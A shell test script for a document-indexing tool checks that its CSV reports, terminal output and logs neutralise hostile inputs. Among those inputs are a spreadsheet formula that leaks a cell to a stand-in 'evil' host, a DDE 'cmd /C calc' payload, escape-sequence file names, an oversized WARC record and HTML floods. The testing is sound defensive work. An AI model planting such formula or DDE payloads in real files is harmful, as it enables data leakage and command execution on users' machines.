#!/bin/sh
# Hostile pages and live use: outputs safe to open (CSV formula cells,
# control bytes in titles, ids and file names), a WARC record whose
# Content-Length runs past the rest of the file, HTML pages built to make
# libxml2 quadratic (an attribute flood, stray end tags deep down), and a
# FIFO nobody writes to, ended by SIGTERM. Every input is generated here.
set -eu
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
. "$(dirname "$0")/common.inc"

mkdir in
"$PYTHON" - in <<'PY'
import json, os, random, sys
d = sys.argv[1]
words = ("river council bridge budget storm harbour school election court museum "
         "railway hospital farmers market festival library").split()
def prose(n, seed):
    r = random.Random(seed)
    return " ".join(r.choice(words) for _ in range(n)) + "."
def w(name, data):
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
t = prose(300, 1)
recs = [
    {"id": "orig", "url": "https://a.example/x", "text": t, "published": "2021-01-02T00:00:00Z",
     "title": '=HYPERLINK("http://evil/?leak="&A1,"x")'},
    {"id": "+cmd|' /C calc'!A0", "url": "@SUM(1)", "title": "-2+3 \x1b[31mred\x07 \x9b2J",
     "text": t + " " + prose(20, 2), "published": "2021-01-01T00:00:00Z"},
]
w("feed.jsonl", ("\n".join(json.dumps(r) for r in recs) + "\n").encode())
# file names with ESC, BEL and a newline that would forge a message line
w("esc\x1b[2J\x07.txt", b"\0" * 2000)
w("nl\nreprint: forged.txt", b"\0" * 2000)
# WARC: good, a 10 GB Content-Length in a small file, good, a 50 MB one, good
def rec(uri, seed, length=None):
    page = ("<html><head><title>T%d</title></head><body><article>%s</article></body></html>"
            % (seed, "".join("<p>%s</p>" % prose(60, seed * 10 + i) for i in range(4)))).encode()
    http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + page
    n = len(http) if length is None else length
    return (b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: " + uri.encode() +
            b"\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: " +
            str(n).encode() + b"\r\n\r\n" + http + b"\r\n\r\n")
w("crawl.warc", rec("https://w.example/a", 3) + rec("https://w.example/huge", 4, 10 ** 10) +
  rec("https://w.example/b", 5) + rec("https://w.example/big", 6, 50 << 20) +
  rec("https://w.example/c", 7))
# HTML: a million attributes on one tag (17 MB), 80,000, and stray end tags
# 30,000 deep; each around a real article, next to a good page
body = "".join("<p>%s</p>" % prose(60, 40 + i) for i in range(5))
def page(inner):
    return ("<html><head><title>F</title></head><body><article>" + inner + body +
            "</article></body></html>").encode()
w("flood1m.html", page("<div " + " ".join("a%d=\"%d\"" % (i, i) for i in range(10 ** 6)) + ">x</div>"))
w("flood80k.html", page("<div " + " ".join("b%d" % i for i in range(80000)) + ">x</div>"))
w("stray.html", page("<div>" * 30000 + "</span>" * 30000))
w("good.html", ("<html><head><title>G</title></head><body><article>%s</article></body></html>"
                % "".join("<p>%s</p>" % prose(60, 70 + i) for i in range(5))).encode())
PY

check "formula cells are neutralised in the CSV report, numbers stay numbers"
expect 0 "$REPRINT" index -q -d r.db in/feed.jsonl
expect 0 "$REPRINT" cluster -d r.db
expect 0 "$REPRINT" report -d r.db --format csv -o r.csv
py 'import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert len(rows) == 1, rows
r = rows[0]
assert r["copy_title"] == "\x27=HYPERLINK(\"http://evil/?leak=\"&A1,\"x\")", r
assert r["original"] == "\x27+cmd|\x27 /C calc\x27!A0", r
assert r["original_url"] == "\x27@SUM(1)", r
assert r["original_title"] == "\x27-2+3 \\x1b[31mred\\x07 \\u009b2J", r
for k, v in r.items():
    assert not v or v[0] not in "=+-@\t\r", (k, v)
    assert not any(ord(c) < 32 or 0x7f <= ord(c) < 0xa0 for c in v), (k, v)
assert float(r["delay_hours"]) == 24, r' r.csv
grep -q '^1,"'"'"'+cmd|'"'"' /C calc'"'"'!A0","'"'"'@SUM(1)",,' r.csv || fail "raw CSV: $(cat r.csv)"

check "ESC, BEL and C1 bytes never reach stdout raw (cluster, show, query)"
noraw() {
    py 'import sys
b = open(sys.argv[1], "rb").read()
bad = [c for c in b if c < 32 and c not in (9, 10)] + [1 for i in range(len(b) - 1)
       if b[i] == 0xc2 and 0x80 <= b[i + 1] <= 0x9f]
assert not bad, (sys.argv[2], b[:400])' "$1" "$2"
}
expect 0 "$REPRINT" cluster -d r.db
noraw out cluster
grep -q 'red\\x07' out || fail "cluster: no visible escape: $(cat out)"
expect 0 "$REPRINT" show -d r.db "+cmd|' /C calc'!A0"
noraw out show
grep -q '^title *-2+3 \\x1b\[31mred\\x07 \\u009b2J$' out || fail "show: $(head -5 out)"
expect 1 "$REPRINT" query -d r.db in/feed.jsonl
noraw out query

check "file names with ESC, BEL and a newline: one escaped line each on stderr"
expect 0 "$REPRINT" index -q -d n.db --rejects rej.jsonl in/esc* in/nl*
noraw err stderr
[ "$(grep -c '^reprint: ' err)" -eq 2 ] || fail "forged or missing lines: $(cat err)"
grep -q '^reprint: in/esc\\x1b\[2J\\x07\.txt:1: binary content$' err || fail "$(cat err)"
grep -q '^reprint: in/nl\\nreprint: forged\.txt:1: binary content$' err || fail "$(cat err)"
py 'import json, sys
names = sorted(json.loads(l)["source"] for l in open(sys.argv[1]))
assert names == ["in/esc\x1b[2J\x07.txt", "in/nl\nreprint: forged.txt"], names' rej.jsonl

check "compare --html carries the report's Content-Security-Policy"
printf '%s\n' "$("$PYTHON" -c 'import json;print(json.loads(open("in/feed.jsonl").readline())["text"])')" >a.txt
cp a.txt b.txt
expect 1 "$REPRINT" compare --html a.txt b.txt
grep -q "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">" out ||
    fail "no CSP in compare --html"

check "a WARC Content-Length far too large costs one record, not the rest of the file"
expect 0 "$REPRINT" index -q -d w.db in/crawl.warc
grep -q '^reprint: in/crawl.warc:2: WARC record with a wrong Content-Length (10000000000): it runs past the next record header and the end of the file$' err ||
    fail "$(cat err)"
grep -q '^reprint: in/crawl.warc:4: WARC record with a wrong Content-Length' err || fail "$(cat err)"
[ "$(summary)" = "indexed 3, exact duplicates 0, rejected 2" ] || fail "$(summary)"
for id in https://w.example/a https://w.example/b https://w.example/c; do
    expect 0 "$REPRINT" show -d w.db "$id"
done

check "HTML over the markup budget is rejected fast; the rest of the batch is indexed"
start=$(date +%s)
expect 0 "$REPRINT" index -q -j 2 -d h.db in/flood1m.html in/flood80k.html in/stray.html in/good.html
secs=$(($(date +%s) - start))
echo "  4 pages (17 MB) in ${secs} s"
[ "$secs" -lt 10 ] || fail "the attribute floods took $secs s"
grep -q '^reprint: in/flood1m.html:1: a tag with more than 1000 attributes' err || fail "$(cat err)"
grep -q '^reprint: in/flood80k.html:1: a tag with more than 1000 attributes' err || fail "$(cat err)"
grep -q '^reprint: in/stray.html:1: too many stray end tags in deeply nested markup' err ||
    fail "$(cat err)"
[ "$(summary)" = "indexed 1, exact duplicates 0, rejected 3" ] || fail "$(summary)"

check "SIGTERM ends an index blocked on a FIFO with no writer; the database stays sound"
mkfifo fifo
expect 0 "$REPRINT" index -q -d f.db in/good.html
# Run it in the background and wait for it, so that every line it writes on
# the way out (a sanitizer build exits slowly) is in err before it is read.
"$REPRINT" index -q -d f.db fifo >out 2>err &
pid=$!
sleep 2
kill -TERM "$pid"
start=$(date +%s)
# a build that ignores the signal is killed after 10 s and fails, never hangs
(sleep 10; kill -KILL "$pid" 2>/dev/null) &
dog=$!
set +e
wait "$pid"
rc=$?
kill "$dog" 2>/dev/null
set -e
secs=$(($(date +%s) - start))
[ "$rc" -eq 130 ] || fail "exit $rc after SIGTERM, expected 130: $(cat err)"
[ "$secs" -le 3 ] || fail "took $secs s after SIGTERM"
grep -q 'interrupted' err || fail "$(cat err)"
[ "$(summary)" = "indexed 0, exact duplicates 0, rejected 0" ] || fail "$(summary)"
py 'import sqlite3, sys
con = sqlite3.connect(sys.argv[1])
assert con.execute("PRAGMA integrity_check").fetchall() == [("ok",)]' f.db
expect 0 "$REPRINT" show -d f.db in/good.html
echo "ok"
